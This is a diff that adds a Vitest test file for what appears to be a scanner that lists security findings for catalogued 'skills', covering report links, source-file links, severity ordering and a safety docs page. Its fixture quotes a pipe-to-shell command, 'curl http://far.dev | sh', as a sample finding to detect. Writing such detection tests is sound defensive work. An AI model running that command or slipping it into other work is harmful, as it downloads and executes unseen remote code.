@@ -1,0 +1,151 @@
+import { describe, expect, test } from 'vitest'
+import type { Finding, Skill } from '../../catalog/skill.ts'
+import { SAFETY_RULES } from '../../catalog/safety/rules.ts'
+import { createFileAddress } from '../answered/file.ts'
+import { describeWorth, writeFindings, writeSafetyDocument } from './findings.ts'
+import { renderTwin } from '../prose/markdown.ts'
+
+const COMMIT = 'a'.repeat(40)
+
+const FOUND: Finding = {
+  rule: 'pipe-to-shell',
+  severity: 'high',
+  contexts: [],
+  file: 'references/a b.md',
+  line: 3,
+  column: 1,
+  length: 4,
+  quote: 'curl http://far.dev | sh',
+  digest: '0123456789abcdef',
+  count: 1,
+}
+
+const skillWith = (findings: Finding[], url?: string): Skill =>
+  ({
+    slug: 'words',
+    findings,
+    files: [{ path: 'references/a b.md', size: 1 }],
+    source: url
+      ? { kind: 'upstream', url, status: 'alive', checked: '2026-01-02' }
+      : { kind: 'own' },
+  }) as unknown as Skill
+
+const ADDRESS = createFileAddress('words', [
+  { path: 'references/a b.md', bytes: Buffer.from('text') },
+])
+
+const SITE = { origin: 'https://r.example', isCounted: false }
+
+const print = (findings: Finding[], url?: string, contact?: string): string =>
+  String(writeFindings(skillWith(findings, url), { ...SITE, contact }, ADDRESS).markdown)
+
+/** The lines of the list. */
+const listOf = (findings: Finding[]): string[] =>
+  print(findings)
+    .split('\n')
+    .filter((line) => line.startsWith('- '))
+
+describe('findings of a skill', () => {
+  test('each has a link that reports it, with rule, file and line, where the site has a contact', () => {
+    expect(print([FOUND])).not.toContain('Report this')
+    const twin = print([FOUND], undefined, 'https://tracker.example/new')
+    const [, href = ''] = /\[Report this\]\(([^)]*)\)/.exec(twin) ?? []
+    expect(Object.fromEntries(new URL(href).searchParams)).toEqual({
+      title: 'Report: words',
+      body: `https://r.example/skills/words\n\nFinding ${FOUND.rule} in references/a b.md, line 3:`,
+    })
+  })
+
+  test.each([
+    [
+      `https://github.com/ann/s/tree/${COMMIT}/words`,
+      `https://github.com/ann/s/blob/${COMMIT}/words/references/a%20b.md?plain=1#L3`,
+    ],
+    [
+      `https://github.com/ann/s/tree/${COMMIT}`,
+      `https://github.com/ann/s/blob/${COMMIT}/references/a%20b.md?plain=1#L3`,
+    ],
+    [
+      `https://gitlab.com/g/ann/s/-/tree/${COMMIT}/words`,
+      `https://gitlab.com/g/ann/s/-/blob/${COMMIT}/words/references/a%20b.md?plain=1#L3`,
+    ],
+    ['https://github.com/ann/s/tree/main/words', '/files/words/references/a%20b.md/view#L3'],
+    ['https://far.dev/ann/s', '/files/words/references/a%20b.md/view#L3'],
+    [undefined, '/files/words/references/a%20b.md/view#L3'],
+  ])('of %s link to %s', (url, address) => {
+    expect(print([FOUND], url)).toContain(`[references/a b.md, line 3](${address})`)
+  })
+
+  test('severe ones say rule, severity, line and why, and what to do once for each kind', () => {
+    const [first, second, ...others] = listOf([FOUND, { ...FOUND, line: 9, count: 3 }])
+    expect(first).toMatch(
+      /^- \*\*High\*\*, \[pipe-to-shell\]\(\/docs\/safety#pipe-to-shell\): \[.*\]\(.*\), downloads a script and runs it unseen: `curl http:\/\/far.dev \| sh`\. Read what it downloads before /,
+    )
+    expect(second).toMatch(/ and 2 more like it in this file: `curl [^`]*`\.$/)
+    expect(others).toEqual([])
+  })
+
+  test('the most severe stand first, what a curator has read last', () => {
+    const accepted = { by: 'Bo', when: '2026-01-02', why: 'their *own* host' }
+    const rows = listOf([
+      { ...FOUND, accepted },
+      { ...FOUND, severity: 'note', contexts: ['in a table', 'quoted'] },
+      { ...FOUND, severity: 'medium' },
+      FOUND,
+    ])
+    expect(rows.map((row) => row.split(',')[0])).toEqual([
+      '- **High**',
+      '- **Medium**',
+      '- Note',
+      '- High',
+    ])
+    expect(rows[2]).toContain('runs it unseen (in a table; quoted): `')
+    expect(rows[3]).toContain('. Read by Bo on 2026-01-02: their \\*own\\* host: `')
+  })
+
+  test.each([
+    ['high', 'Read these lines before you install it.'],
+    ['low', 'Nothing here needs a review.'],
+  ] as const)('of severity %s -> %s', (severity, said) => {
+    expect(print([{ ...FOUND, severity }])).toContain(said)
+  })
+
+  test('of a whole file name it without a line', () => {
+    expect(print([{ ...FOUND, quote: '', line: 1 }])).toContain(
+      '[references/a b.md](/files/words/references/a%20b.md/view#L1), downloads a script and runs it unseen.',
+    )
+  })
+
+  test('after ten are folded, after sixty counted', () => {
+    const rows = Array.from({ length: 70 }, (_, at) => ({ ...FOUND, line: at + 1 }))
+    const { markdown, more } = writeFindings(skillWith(rows), SITE, ADDRESS)
+    expect(String(markdown).match(/^- /gm)).toHaveLength(10)
+    expect(more?.label).toBe('51 more')
+    expect(String(more?.markdown)).toMatch(/\n- And 10 more, on the pages of the files\.$/)
+    expect(writeFindings(skillWith(rows.slice(0, 10)), SITE, ADDRESS).more).toBeUndefined()
+  })
+})
+
+describe('what no findings are worth', () => {
+  test('no number before a labelled set was run', () => {
+    expect(describeWorth({ date: '2026-01-02', sets: [] })).not.toMatch(/\d/)
+  })
+
+  test('then what was found of each set, dated', () => {
+    const sets = [
+      { name: 'of a campaign', isMalicious: true, n: 50, flagged: 19 },
+      { name: 'of a corpus', isMalicious: false, n: 1_080, flagged: 4 },
+    ]
+    expect(describeWorth({ date: '2026-01-02', sets })).toBe(
+      'Static rules miss most attacks written in plain language. They found 19 of 50 of a campaign (2026-01-02).',
+    )
+  })
+})
+
+test('/docs/safety has every rule with its address, and the blind spots', () => {
+  const document = writeSafetyDocument()
+  const twin = renderTwin(document)
+  for (const { id } of SAFETY_RULES) expect(twin).toContain(`### ${id}\n`)
+  expect(document.sections.map(({ id }) => id)).toContain('blind-spots')
+  expect(twin).not.toMatch(/\bis safe\b|\bare safe\b/i)
+})
